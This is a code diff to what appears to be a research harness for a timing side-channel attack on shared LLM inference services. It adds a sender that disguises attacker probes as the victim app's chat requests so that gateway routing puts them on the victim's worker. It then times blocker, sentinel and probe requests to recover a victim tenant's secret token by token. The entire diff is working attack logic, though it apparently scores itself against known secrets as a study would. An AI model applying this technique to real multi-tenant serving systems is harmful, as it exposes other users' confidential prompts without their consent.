@@ -71,6 +71,11 @@ class LpmSettings:
     # Start the blocker with the probes' known prefix, so a gateway that routes by leading
     # text sends it to the worker the probes go to (its new tokens still cost a full prefill).
     blocker_routes_with_probes: bool = False
+    # Send the probes (and the blocker) as chat requests in the victim's app's shape instead
+    # of token-id completions. A gateway routes a chat request by its messages' text and a
+    # completion by its prompt text, so completion probes can land on another worker than
+    # the victim's chat prompt (measured through smg's prefix_hash: 2 of 3 victims).
+    chat_probes: bool = False
 
 
 @dataclasses.dataclass
@@ -190,12 +195,47 @@ class _RoundOutcome:
     sent: int
 
 
+class _Sender:
+    """Sends ``prefix + guess + pad`` as token ids, or as the victim's app's chat messages
+    whose text tokenizes to ``prefix + guess`` and then a line break and the pad's text (the
+    break keeps the guess's last token from merging with the pad)."""
+
+    def __init__(
+        self, client: ApiClient, codec: Codec, victim: Victim, prefix: list[int], chat: bool
+    ):
+        self.client, self.codec, self.prefix, self.chat = client, codec, prefix, chat
+        self.template = victim.template
+        if chat:  # where the user message's content starts in the rendered prompt
+            value = victim.candidates[0]
+            content = self.template.content(value, "Hello")
+            rendered = codec.chat_text(self.template.messages(value, "Hello"))
+            self.content_at = rendered.rindex(content)
+
+    def messages(self, guess: list[int], pad: list[int]) -> list[dict[str, str]]:
+        text = self.codec.decode(self.prefix + guess)[self.content_at :]
+        return [
+            {"role": "system", "content": self.template.system_prompt},
+            {"role": "user", "content": text + "\n" + self.codec.decode(pad)},
+        ]
+
+    def aligned(self, guess: list[int], pad: list[int]) -> bool:
+        """The chat form starts with ``prefix + guess``."""
+        want = self.prefix + guess
+        return self.codec.chat_ids(self.messages(guess, pad))[: len(want)] == want
+
+    async def send(
+        self, tenant: str, guess: list[int], pad: list[int], max_tokens: int = 1
+    ) -> Measurement:
+        if self.chat:
+            return await self.client.chat(tenant, self.messages(guess, pad), max_tokens)
+        return await self.client.complete_ids(tenant, self.prefix + guess + pad, max_tokens)
+
+
 async def _round(
-    client: ApiClient,
+    sender: _Sender,
     settings: LpmSettings,
     filler: FillerTokens,
     rng: random.Random,
-    prefix: list[int],
     known: list[int],
     children: list[int],
 ) -> _RoundOutcome:
@@ -204,20 +244,23 @@ async def _round(
     sentinel = filler.take(1)[0]
     while sentinel in children:
         sentinel = filler.take(1)[0]
-    probe_ids = {t: prefix + known + [t] + filler.take(settings.pad_tokens) for t in order}
-    sentinel_ids = prefix + known + [sentinel] + filler.take(settings.pad_tokens)
+    pads = {t: filler.take(settings.pad_tokens) for t in order}
+    sentinel_pad = filler.take(settings.pad_tokens)
 
     blocker_ids = filler.take(settings.blocker_tokens)
-    if settings.blocker_routes_with_probes:
-        blocker_ids = prefix + blocker_ids
-    blocker = asyncio.create_task(
-        client.complete_ids(settings.blocker_account, blocker_ids, max_tokens=1)
-    )
+    if settings.blocker_routes_with_probes or settings.chat_probes:
+        blocker = asyncio.create_task(sender.send(settings.blocker_account, [], blocker_ids))
+    else:
+        blocker = asyncio.create_task(
+            sender.client.complete_ids(settings.blocker_account, blocker_ids, max_tokens=1)
+        )
     await asyncio.sleep(settings.blocker_lead_s)
-    sentinel_task = asyncio.create_task(client.complete_ids(settings.attacker, sentinel_ids))
+    sentinel_task = asyncio.create_task(
+        sender.send(settings.attacker, known + [sentinel], sentinel_pad)
+    )
     await asyncio.sleep(settings.sentinel_lead_s)
     tasks = [
-        asyncio.create_task(client.complete_ids(settings.attacker, probe_ids[t])) for t in order
+        asyncio.create_task(sender.send(settings.attacker, known + [t], pads[t])) for t in order
     ]
     results: list[Measurement] = await asyncio.gather(*tasks)
     sentinel_m: Measurement = await sentinel_task
@@ -255,15 +298,18 @@ async def run(
     filler = FillerTokens(codec, settings.seed)
     rng = random.Random(settings.seed)
     sent = 0
+    senders = {
+        v.tenant: _Sender(client, codec, v, plans[v.tenant][0].prefix, settings.chat_probes)
+        for v in victims
+    }
     # Warm the public prefixes for the attacker (matters in isolated mode only).
     for v in victims:
-        await client.complete_ids(settings.attacker, plans[v.tenant][0].prefix + filler.take(4))
+        await senders[v.tenant].send(settings.attacker, [], filler.take(4))
         sent += 1
     walks = []
     with tqdm(total=len(victims), desc="lpm walks", unit="secret", disable=not progress) as bar:
         for v in victims:
             plan = plans[v.tenant]
-            prefix = plan[0].prefix
             seqs = {value: p.candidate for value, p in zip(v.candidates, plan)}
             truth = seqs[v.secret.value]
             trie = _Trie(seqs)
@@ -281,7 +327,7 @@ async def run(
                 children = children[: settings.max_candidates]
                 on_path = list(truth[: len(known)]) == known
                 right = truth[len(known)] if on_path and len(truth) > len(known) else None
-                outcome = await _round(client, settings, filler, rng, prefix, known, children)
+                outcome = await _round(senders[v.tenant], settings, filler, rng, known, children)
                 sent += outcome.sent
                 rounds.append(
                     Round(
